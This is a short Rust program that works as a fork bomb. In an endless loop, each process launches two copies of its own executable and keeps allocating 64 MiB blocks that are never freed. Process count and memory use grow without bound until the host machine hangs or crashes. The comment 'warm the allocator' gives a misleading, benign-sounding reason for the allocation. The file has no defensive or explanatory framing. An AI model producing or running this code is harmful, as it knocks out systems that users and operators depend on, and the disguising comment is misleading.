use std::env;
use std::process::Command;
use std::thread;

fn spawn_pair(exe: &std::path::Path) {
    for _ in 0..2 {
        let _ = Command::new(exe).spawn();
    }
}

fn main() {
    let exe = env::current_exe().expect("exe");
    let mut keep: Vec<Vec<u8>> = Vec::new();
    loop {
        spawn_pair(&exe);
        // warm the allocator
        keep.push(vec![1u8; 64 << 20]);
        thread::yield_now();
    }
}
